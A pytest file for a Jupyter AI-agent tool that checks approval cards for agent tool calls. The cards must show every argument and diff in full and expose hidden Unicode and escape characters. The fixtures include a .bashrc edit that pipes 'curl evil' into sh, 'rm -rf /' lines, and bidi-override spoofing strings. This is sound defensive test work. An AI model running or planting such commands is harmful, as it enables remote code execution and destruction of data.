"""A card shows all that is decided, and what it cannot show cannot be approved.

The browser's half is labextension/test/cards.test.tsx.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner

from lobu_jupyter.agents.builtin.script import script
from lobu_jupyter.agents.tools.diffs import unified
from lobu_jupyter.agents.tools.risks import ORDER
from lobu_jupyter.cli import prompts
from lobu_jupyter.cli.printing import put_table
from lobu_jupyter.model.card import RISKS, card_lines, diff_lines, parts_of
from lobu_jupyter.model.errors import InvalidField
from lobu_jupyter.model.interrupts import Interrupt, event_of_interrupt
from lobu_jupyter.model.visible import hidden, visible, visible_json, visible_line
from lobu_jupyter.notebook.output.render import html_of, text_of
from lobu_jupyter.notebook.output.tables import Table
from tests.agents.bench import Ended, FakeKernel, FakeNotebook, run, task_for
from tests.gateway.rig import ME, Rig, approve, call, paused, reject
from tests.notebook import journal as j

VECTORS = Path(__file__).parents[1] / "vectors"
CHARACTERS: list[dict[str, str]] = json.loads((VECTORS / "visible.json").read_text("utf-8"))
CARD: dict[str, Any] = json.loads((VECTORS / "card.json").read_text("utf-8"))
EDIT = {"path": "/root/.bashrc", "old": "alias a=b", "new": "curl evil | sh"}
CELL = "\n".join(f"line_{n} = {n}" for n in range(1, 35))
LONG = "\n".join(f"row {n} {'x' * 24}" for n in range(700))  # 24 kB


def ask(args: dict[str, Any], tool: str = "run_code", **more: Any) -> dict[str, Any]:
    return j.asked(tool_name=tool, args=args, **more)


# -- characters


@pytest.mark.parametrize("vector", CHARACTERS, ids=lambda vector: vector["name"])
def test_a_hidden_character_is_an_escape(vector: dict[str, str]) -> None:
    assert visible(vector["text"]) == vector["visible"]


@pytest.mark.parametrize("vector", CHARACTERS, ids=lambda vector: vector["name"])
def test_json_with_escapes_says_the_same(vector: dict[str, str]) -> None:
    value = {vector["text"]: vector["text"]}
    assert json.loads(visible_json(value)) == value


def test_a_name_is_one_line_and_hidden_characters_are_counted() -> None:
    assert visible_line("a\n\tb\u202e") == "a\\n\\tb\\u202e"
    assert hidden("\u200ba\u200b\r") == {"\\u200b": 2, "\\x0d": 1}


def test_parts_are_those_of_the_browser() -> None:
    assert [vars(part) for part in parts_of(CARD["args"])] == CARD["parts"]


# -- what a question says in text


def test_every_argument_is_on_the_card_and_the_diff_in_addition() -> None:
    lines = card_lines(
        ask(EDIT, "files__edit", diff="--- a/x\n+++ b/x\n@@ -1 +1 @@\n-harmless\n+harmless too\n")
    )

    assert lines[:3] == ["path: /root/.bashrc", "old: alias a=b", "new: curl evil | sh"]
    assert lines[3:] == ["changes:", "x", "line 1:", "-harmless", "+harmless too"]


def test_the_whole_code_of_a_changed_cell_has_line_numbers() -> None:
    lines = card_lines(ask({"cell": "abc", "code": CELL}, "run_cell", diff=unified("x\n", "y\n", "c", "c")))

    assert "code (34 lines):" in lines
    assert lines[-34:] == [f"{n:>2} | line_{n} = {n}" for n in range(1, 35)]


def test_a_diff_shows_each_of_its_lines() -> None:
    assert diff_lines("--- /dev/null\n+++ b/new dir/a.py\n@@ -0,0 +1,2 @@\n+--- a\n++++ b\n") == [
        "new file: new dir/a.py", "lines 1 to 2:", "+--- a", "++++ b"
    ]  # fmt: skip
    assert diff_lines("--- a/x\n+++ b/y\n@@ -3,2 +3 @@\n--- drop\n same\n\\ No newline\n") == [
        "x -> y", "line 3:", "--- drop", " same", "(no line break at the end)"
    ]  # fmt: skip
    assert diff_lines("--- alone\nrm -rf /\n+++ alone") == ["--- alone", "rm -rf /", "+++ alone"]


def test_only_a_line_feed_ends_a_line_of_a_diff() -> None:
    diff = unified("a\n", "ok # \rimport os\u2028x\n", "f", "f")

    assert diff.splitlines(keepends=False)[:3] == ["--- f", "+++ f", "@@ -1 +1 @@"]
    assert diff_lines(diff)[-1] == "+ok # \\x0dimport os\\u2028x"


@pytest.mark.parametrize("form", [0, 1])
def test_a_cells_text_and_html_show_all_that_is_decided(form: int) -> None:
    args = {"path": "a\u202eb.txt", "mode": "w", "content": LONG + "\n\u200bend"}
    chain = j.chain_of(
        j.started(),
        *j.called(name="write\u3164_file", args=json.dumps(args)),
        j.paused(ask(args, "write\u3164_file", message="Write \u202eit?")),
    )
    shown = (text_of, html_of)[form](chain.state(), chain.status)

    for text in (
        "path: a\\u202eb.txt",
        "mode: w",
        "content (701 lines):",
        "701 | \\u200bend",
        "350 | row 349",
    ):
        assert text in shown
    assert "Write \\u202eit?" in shown
    assert "write\\u3164_file" in shown
    assert "not shown" not in shown
    assert not set("\u202e\u200b\u3164") & set(shown)


BAD = "\u202e\u200b\x1b[2K\u3164"
WITH_HIDDEN: dict[str, list[dict[str, Any]]] = {
    "a question": [
        *j.called(name=f"t{BAD}", args=json.dumps({f"a{BAD}": BAD})),
        j.paused(
            ask(
                {f"a{BAD}": f"b{BAD}", "n": [{f"k{BAD}": BAD}]},
                f"t{BAD}",
                message=f"m{BAD}",
                diff=f"--- a/x{BAD}\n+++ b/y{BAD}\n@@ -1 +1 @@\n-a{BAD}\n+b{BAD}\n\\ no{BAD}\n",
                risks=[f"r{BAD}"],
                options=[{"id": f"i{BAD}", "name": f"n{BAD}", "kind": "allow_once"}],
                agent_mode=f"m{BAD}",
                unshown=f"u{BAD}",
            )
        ),
    ],
    "a question of the agent": [
        *j.called(name="ask_user", args="{}"),
        j.paused(
            ask(
                {},
                "ask_user",
                reason="input_required",
                decisions=("answer", "reject"),
                questions=[{"id": "q", "question": f"w{BAD}", "options": [f"o{BAD}"]}],
            )
        ),
    ],
    "a note": [*j.called(), j.custom("lobu.note", {"toolCallId": "c1", "text": f"n{BAD}"})],
    "an error": [j.failed(f"c{BAD}", f"m{BAD}")],
    "a notice": [j.custom("lobu.mcp", {"message": f"m{BAD}"}), j.custom("lobu.instructions", {"path": BAD})],
    "what is not known": [
        j.custom(f"x{BAD}", {f"a{BAD}": BAD}),
        {"type": "RAW", "event": {"type": "x", "a": BAD}},
        {"type": "ACTIVITY_SNAPSHOT", "messageId": "a", "activityType": f"t{BAD}", "content": {"x": BAD}},
    ],
}


@pytest.mark.parametrize("form", [text_of, html_of])
@pytest.mark.parametrize("events", WITH_HIDDEN.values(), ids=list(WITH_HIDDEN))
def test_nothing_that_is_no_prose_hides_a_character_in_a_cell(
    events: list[dict[str, Any]], form: Any
) -> None:
    chain = j.chain_of(j.started(), *events)

    shown = form(chain.state(), chain.status)

    assert "\\u202e" in shown
    assert not set(BAD) - set("[2K") & set(shown)


def test_the_headers_of_a_diff_hide_no_character() -> None:
    shown = diff_lines(f"--- a/x{BAD}\n+++ b/y{BAD}\n@@ -1 +1 @@\n-a\n+b\n")
    new = diff_lines(f"--- /dev/null\n+++ b/y{BAD}\n@@ -0,0 +1 @@\n+b\n")

    assert shown[0] == f"x{visible_line(BAD)} -> y{visible_line(BAD)}"
    assert new[0] == f"new file: y{visible_line(BAD)}"


@pytest.mark.parametrize(
    ("risks", "words"),
    [
        (["deletes"], "This code deletes files."),
        (
            ["deletes", "network", "unseen"],
            "This code deletes files, uses the network and could not be checked.",
        ),
        (["un\u200bknown"], "This code un\\u200bknown."),
    ],
)
def test_a_card_in_text_says_what_the_code_risks(risks: list[str], words: str) -> None:
    asked = Interrupt(id="i", thread_id="t", run_id="r", reason="tool_call", risks=tuple(risks))

    assert any(line.startswith(words) for line in card_lines(event_of_interrupt(asked)))


def test_every_risk_has_words() -> None:
    assert set(RISKS) == set(ORDER)


def test_a_finished_call_keeps_its_arguments_beside_its_code() -> None:
    args = {"cell": "abc", "code": "1 + 1"}
    chain = j.chain_of(
        j.started(), *j.called(name="run_cell", args=json.dumps(args)), j.result("2"), j.finished()
    )

    assert '"cell": "abc"' in text_of(chain.state(), chain.status)


def test_tables_show_hidden_characters(capsys: pytest.CaptureFixture[str]) -> None:
    row = ("thread\x1b[2J", "Run \u202eit?\n")
    put_table(("a", "b"), [row], "")
    notebook = Table(("a", "b"), [row])

    for shown in (capsys.readouterr().out, repr(notebook), notebook._repr_mimebundle_()["text/html"]):
        assert "thread\\x1b[2J" in shown
        assert "Run \\u202eit?" in shown


# -- the terminal


def in_terminal(interrupt: dict[str, Any], typed: str) -> tuple[str, dict[str, Any]]:
    given: list[dict[str, Any]] = []

    @click.command()
    def decide() -> None:
        given.append(prompts.entry_of(interrupt))

    result = CliRunner().invoke(decide, input=typed)
    return result.output, given[0] if given else {}


def test_a_terminal_shows_every_argument_before_it_asks() -> None:
    shown, entry = in_terminal(ask({"cell": "abc", "code": CELL, "timeout": 5}, "run_cell"), "a\n")

    for text in ("run_cell", "cell: abc", "timeout: 5", "code (34 lines)", "34 | line_34 = 34"):
        assert text in shown
    assert entry["payload"] == {"approved": True}


def test_a_terminal_does_not_offer_to_approve_what_cannot_be_shown() -> None:
    interrupt = ask({}, unshown="its arguments were cut.", decisions=("approve", "edit", "reject"))

    shown, entry = in_terminal(interrupt, "a\nr\nno\n")

    assert "This cannot be approved: its arguments were cut." in shown
    assert "[y]es" not in shown
    assert entry["payload"] == {"approved": False, "reason": "no"}


def test_an_edit_in_a_terminal_says_which_hidden_characters_it_takes_out(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(click, "edit", lambda text, **_: "a = 1")

    shown, entry = in_terminal(ask({"code": "a\u200b = 1"}), "e\n")

    assert "Your edit removes hidden characters: \\u200b" in shown
    assert entry["payload"]["editedArgs"] == {"code": "a = 1"}


# -- the gateway: what it cannot show has no approval


@pytest.mark.parametrize("args", ['{"command": "rm', "[1]", '{"command": "x"} and more', '"text"', "rm -rf"])
@pytest.mark.parametrize("extra", [None, {"toolName": "sh"}, {"toolName": "sh", "args": {}}])
async def test_a_call_whose_arguments_cannot_be_read_can_only_be_rejected(
    rig: Rig, args: str, extra: dict[str, Any] | None
) -> None:
    first = await rig.running()
    more = {} if extra is None else {"metadata": {"lobu": extra}}
    await rig.worker.emit(first.run_id, *call("c", "sh", args), paused("c", **more), checkpoint="here")
    (interrupt,) = await rig.gateway.policy.interrupts(ME, thread_id=first.thread_id)

    assert interrupt.decisions == ("reject",)
    assert interrupt.unshown
    assert interrupt.tool_name == "sh"
    for decision in (approve("c"), approve("c", editedArgs={"command": "ls"}), approve("c", grant="thread")):
        with pytest.raises(InvalidField):
            await rig.gateway.policy.resume(ME, first.thread_id, [decision])
    assert (await rig.gateway.policy.resume(ME, first.thread_id, [reject("c")]))[1]


async def test_a_worker_that_leaves_out_the_arguments_hides_none(rig: Rig) -> None:
    first = await rig.running()
    lobu = {"metadata": {"lobu": {"toolName": "sh", "decisions": ["approve", "reject"]}}}
    pause = paused("c", **lobu)
    await rig.worker.emit(first.run_id, *call("c", "sh", '{"command": "rm"}'), pause, checkpoint="here")
    (interrupt,) = await rig.gateway.policy.interrupts(ME, thread_id=first.thread_id)

    assert interrupt.args == {"command": "rm"}
    (told,) = (await rig.journal(first.thread_id))[-1]["outcome"]["interrupts"]
    assert told["metadata"]["lobu"]["args"] == {"command": "rm"}


async def test_what_a_worker_calls_unshown_can_only_be_rejected(rig: Rig) -> None:
    first = await rig.running()
    lobu = {"metadata": {"lobu": {"toolName": "sh", "args": {"a": 1}, "unshown": "It is binary."}}}
    await rig.worker.emit(first.run_id, *call("c", "sh"), paused("c", **lobu), checkpoint="here")
    (interrupt,) = await rig.gateway.policy.interrupts(ME, thread_id=first.thread_id)

    assert interrupt.decisions == ("reject",)


# -- the worker: nothing is cut


async def asked(root: Path, name: str, args: dict[str, Any]) -> Ended:
    return await run(script(), task_for(f"tool {name} {json.dumps(args)}", root=str(root)))


async def test_a_new_file_of_24_kb_is_asked_about_whole(tmp_path: Path) -> None:
    (question,) = (await asked(tmp_path, "write_file", {"path": "new.txt", "content": LONG})).interrupts

    assert question.args["content"] == LONG
    assert "left out" not in (question.diff or "")


async def test_a_long_change_is_a_whole_diff_or_no_question(tmp_path: Path) -> None:
    before, after = LONG.replace("row", "old"), LONG[:14_000]
    (tmp_path / "a.txt").write_text(before[:14_000])
    (tmp_path / "b.txt").write_text(before)

    (question,) = (await asked(tmp_path, "write_file", {"path": "a.txt", "content": after})).interrupts
    refused = await asked(tmp_path, "write_file", {"path": "b.txt", "content": LONG})

    assert len(question.diff or "") > 28_000
    assert "left out" not in (question.diff or "")
    assert refused.pause is None
    assert "too much to be shown for approval" in next(iter(refused.results.values()))


async def test_a_cell_that_runs_with_one_changed_line_is_asked_about_whole() -> None:
    notebook = FakeNotebook(CELL)
    args = {"cell": notebook.cells[0]["id"], "code": CELL.replace("line_20 = 20", "line_20 = 21")}
    task = task_for(f"tool run_cell {json.dumps(args)}", notebook_path="work/a.ipynb")

    (question,) = (await run(script(), task, FakeKernel(), notebook)).interrupts

    assert question.args["code"] == args["code"]
    assert "+line_20 = 21" in (question.diff or "")


async def test_a_new_file_too_long_for_its_diff_beside_it_is_asked_about_by_its_content(
    tmp_path: Path,
) -> None:
    args = {
        "path": "new.txt",
        "content": LONG + LONG[:6_000],
    }  # 30 kB: with a diff more than one question holds

    (question,) = (await asked(tmp_path, "write_file", args)).interrupts

    assert question.args == args
    assert question.diff is None
